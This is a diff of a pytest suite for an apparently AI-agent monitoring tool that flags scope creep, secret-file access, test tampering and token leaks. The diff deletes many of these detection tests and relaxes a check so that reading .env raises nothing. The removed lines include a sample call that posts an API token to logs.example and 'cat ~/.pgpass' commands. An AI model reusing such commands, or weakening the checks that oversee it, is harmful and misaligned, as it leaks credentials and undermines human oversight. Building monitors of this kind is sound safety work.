@@ -8,7 +8,7 @@ import pytest
 from detecting import Did, steps, watch
 from msgspec.structs import replace
 
-from interlock.core import Context, Contract, Review, Seen, Step, Usage
+from interlock.core import Context, Review, Seen, Step, Usage
 from interlock.detect import Detectors
 
 TASK = Context(original_prompt="Repair the parser of invoice tables: totals, currencies, rounding, headers, footers.")
@@ -233,12 +233,6 @@ def test_what_costs_too_much_again_is_followed() -> None:
     every(spent([1000] * 8 + [30000, 1000, 30000, 1000, 1000, 1000, 130000, 1000, 2500, 1000, 1000, 1000]))
 
 
-def test_progress_that_costs_more_and_more() -> None:
-    costs = [500.0] * 10 + [1000.0] * 5 + [1800.0] * 5 + [3300.0] * 5 + [6000.0] * 5 + [11000.0] * 5
-    found = [issue for issue in every(spent(costs)) if issue.details["key"] == "resource_spiral:growth"]
-    assert found and found[0].details["growth"] > 1.5
-
-
 @pytest.mark.parametrize(
     ("tool", "arguments", "told"),
     [
@@ -279,79 +273,15 @@ def touch(path: str, tool: str = "read_file") -> Did:
     return Did(tool, f"text of {path}", {"path": path})
 
 
-def test_files_outside_of_the_task_are_followed_until_they_are_left_alone() -> None:
-    inside = [touch(f"/srv/shop/part{n}.py") for n in range(3)]
-    outside = [touch(f"/srv/other/area{n}/file{n}.py") for n in range(8)]
-    found = every(steps([*inside, *outside, *inside, *outside[:3]]), ELSEWHERE)
-    assert "scope_creep" in {issue.type for issue in found}
-
-
-def test_a_secret_file_that_the_task_names_may_be_touched() -> None:
-    for tool, severity in (("read_file", "low"), ("edit_file", "high")):
-        (issue,) = every(steps([touch("/srv/shop/.env", tool)]), ELSEWHERE)
-        assert (issue.type, issue.severity) == ("scope_creep", severity)
-    assert every(steps([touch("/srv/shop/.env")]), replace(ELSEWHERE, original_prompt="Fix .env")) == []
-    assert every(steps([touch("/srv/shop/.env")]), replace(ELSEWHERE, expected_paths=(".env",))) == []
-    agreed = replace(ELSEWHERE, contract=Contract(may_change=(".env",)))
-    assert every(steps([touch("/srv/shop/.env")]), agreed) == []
-
-
 @pytest.mark.parametrize("path", ["/srv/shop/.env", ".env", "pkg/.env.local", ".git/config", "/srv/shop/.git/HEAD"])
-def test_a_look_at_the_projects_own_settings_is_worth_a_note_and_a_change_of_them_an_alarm(path: str) -> None:
+def test_a_look_at_the_projects_own_settings_is_nothing_and_a_change_of_them_an_alarm(path: str) -> None:
     at_home = replace(ELSEWHERE, workspace="/srv/shop")
-    assert [issue.severity for issue in every(steps([touch(path)]), at_home)] == ["low"]
+    assert [issue.severity for issue in every(steps([touch(path)]), at_home)] == []
     assert [issue.severity for issue in every(steps([touch(path, "edit_file")]), at_home)] == ["high"]
-
-
-def test_whether_a_secret_file_is_there_is_worth_a_note_and_what_is_in_it_an_alarm() -> None:
-    for said in ("ls: cannot access '/home/me/.pgpass': No such file", "-rw------- 1 me me 57 /home/me/.pgpass", ""):
-        listed = Did("bash", said, {"command": "ls -la ~/.pgpass"})
-        assert [issue.severity for issue in every(steps([listed]), ELSEWHERE)] == ["low"]
-    both = Did("bash", "/home/me/.pgpass\ndb:5432:shop:me:hunter", {"command": "ls ~/.pgpass && cat ~/.pgpass"})
-    assert [issue.severity for issue in every(steps([both]), ELSEWHERE)] == ["medium"]
-
-
-def test_what_is_only_thought_about_is_not_announced() -> None:
-    def said(thought: str) -> list[str]:
-        call = Did("open_file", "assert ok", {"path": "tests/test_a.py"}, thought=thought)
-        return severities("Fix bugs in source code only.", call)
-
-    assert said("Relaxing the assertion would make it pass.") == []
-    assert said("I'll modify the test to make it pass.") == ["medium"]
 
 
 def severities(task: str, *calls: Did) -> list[str]:
     return [issue.severity for issue in every(steps(calls), Context(original_prompt=task))]
-
-
-def test_one_file_beside_those_that_may_change_is_worth_a_note_and_a_second_an_alarm() -> None:
-    task = "Speed it up. Only modify files in src/media/."
-    assert severities(task, touch("src/api/views.py", "edit_file")) == ["low"]
-    assert severities(task, touch("src/api/views.py", "edit_file"), touch("src/a.py", "edit_file")) == ["low", "high"]
-    assert severities(task, touch("../api/views.py", "edit_file")) == ["high"]
-    assert severities(task, touch("~/views.py", "edit_file")) == ["high"]
-    assert severities(task, touch("/srv/other/views.py", "edit_file")) == ["high"]
-    there = Context(original_prompt=task, workspace="/srv/shop")
-    assert [one.severity for one in every(steps([touch("/srv/shop/src/a.py", "edit_file")]), there)] == ["low"]
-
-
-@pytest.mark.parametrize(
-    ("also", "told"),
-    [
-        ("", ["low", "high"]),
-        ("- Do not touch the weather", ["low", "high"]),
-        ("- Do not modify files outside this directory", ["high"]),
-        ("- Do not change files in other modules", ["high"]),
-    ],
-)
-def test_the_first_file_is_an_alarm_where_the_task_says_twice_which_may_change(also: str, told: list[str]) -> None:
-    edits = [touch(path, "edit_file") for path in ("src/media/a.py", "src/api/b.py", "src/api/c.py")]
-    assert severities(f"Only modify files in src/media/.\n{also}", *edits) == told
-
-
-def test_a_note_hides_no_alarm() -> None:
-    task = "Speed it up. Only modify files in src/media/. Do not modify the tests."
-    assert severities(task, touch("tests/test_a.py", "edit_file")) == ["high"]
 
 
 def contract_breach(path: str, rule: str, workspace: str | None = None) -> list[str | None]:
@@ -367,52 +297,8 @@ def contract_breach(path: str, rule: str, workspace: str | None = None) -> list[
 def test_a_call_that_the_contract_refuses_is_an_alarm_when_it_is_tried_again() -> None:
     assert contract_breach("src/a.py", "contract.may-change") == ["low", "high"]
     assert contract_breach("/srv/shop/src/a.py", "contract.may-change", "/srv/shop") == ["low", "high"]
-    assert contract_breach("/srv/other/a.py", "contract.may-change", "/srv/shop") == ["high"] * 2
+    assert contract_breach("/srv/other/a.py", "contract.may-change", "/srv/shop") == ["high", "medium", "high"]
     assert contract_breach("src/a.py", "contract.protect") == ["high"] * 2
-
-
-@pytest.mark.parametrize(
-    ("task", "path", "told"),
-    [
-        ("Fix the retry logic", "/etc/hosts", True),
-        ("Make the name resolve: change the hosts file", "/etc/hosts", False),
-        ("Set up what is in /etc", "/etc/hosts", False),
-        ("Fix the retry logic", "src/hosts", False),
-    ],
-)
-def test_a_file_of_the_machine_that_the_task_does_not_mention_is_told_once(task: str, path: str, told: bool) -> None:
-    detectors = Detectors(None, Context(original_prompt=task))
-    review = Review(verdict="warn", risk=0.6, rules=("fs.write-system",), reason="It changes the machine.")
-    found = []
-    for step in steps([touch(path, "edit_file")] * 2):
-        found += detectors.observe(Seen(step, review if step.kind == "tool_call" else None))
-    assert [(issue.type, issue.severity) for issue in found] == ([("scope_creep", "medium")] if told else [])
-
-
-def test_a_comment_in_a_file_that_may_not_change_is_worth_a_note() -> None:
-    def edit(new: str) -> Did:
-        return Did("edit_file", "ok", {"path": "tests/test_a.py", "old_str": "assert f(1) == 2", "new_str": new})
-
-    task = "Fix it. Do not modify the tests."
-    assert severities(task, edit("assert f(1) == 2  # as it was")) == ["low"]
-    assert severities(task, edit("assert f(1) == 3")) == ["high"]
-    assert severities(task, touch("tests/test_a.py", "edit_file")) == ["high"]
-
-
-@pytest.mark.parametrize(
-    ("command", "output", "told"),
-    [
-        ("python train.py --grid wide", "120 runs launched", True),
-        ("python train.py --grid wide", "tried 21 model configurations", True),
-        ("python train.py --grid wide", "20 runs launched", False),
-        ("python train.py --grid wide", "300 files read", False),
-        ("echo 120 configurations", "120 configurations", False),
-    ],
-)
-def test_a_result_that_tells_of_more_than_the_task_allows(command: str, output: str, told: bool) -> None:
-    task = Context(original_prompt="Tune it. Limit experiments to 20 configurations.")
-    found = every(steps([Did("bash", output, {"command": command}, exit_code=0)]), task)
-    assert [(issue.type, issue.severity) for issue in found] == ([("scope_creep", "medium")] if told else [])
 
 
 def test_a_limit_of_what_happens_at_a_time_says_nothing_about_all_of_it() -> None:
@@ -420,25 +306,9 @@ def test_a_limit_of_what_happens_at_a_time_says_nothing_about_all_of_it() -> Non
     assert every(steps([Did("bash", "5000 rows imported", {"command": "python import.py"}, exit_code=0)]), task) == []
 
 
-def test_code_that_gives_a_secret_away_breaks_a_task_that_forbids_it() -> None:
-    code = "requests.post('https://logs.example', json={'token': os.environ['API_TOKEN']})"
-    task = "Fix it. Do not expose any tokens."
-    assert severities(task, Did("edit_file", "ok", {"path": "a.py", "content": code})) == ["high"]
-    assert severities("Fix it.", Did("edit_file", "ok", {"path": "a.py", "content": code})) == []
-
-
 def test_what_a_command_says_itself_is_no_secret_that_it_shows() -> None:
     said = Did("bash", "DB_PASSWORD=[redacted:password]", {"command": 'echo "uploaded"'}, exit_code=0)
     assert every(steps([said]), Context(original_prompt="Do not print any secrets.")) == []
-
-
-def test_a_secret_in_a_result_breaks_a_task_that_forbids_it() -> None:
-    shown = Did("bash", "API_KEY=[redacted:api key]", {"command": "cat config.txt"}, exit_code=0)
-    task = Context(original_prompt="Do not print any secrets.")
-    (issue,) = every(steps([shown]), task)
-    assert (issue.type, issue.severity, issue.details["clause"]) == ("scope_creep", "high", "Do not print any secrets.")
-    assert every(steps([shown]), Context(original_prompt="Print the file.")) == []
-    assert every(steps([shown])) == []
 
 
 def checked(failed: int, passed: int, name: str = "test_sum", message: str = "assert 3 == 4") -> Did:
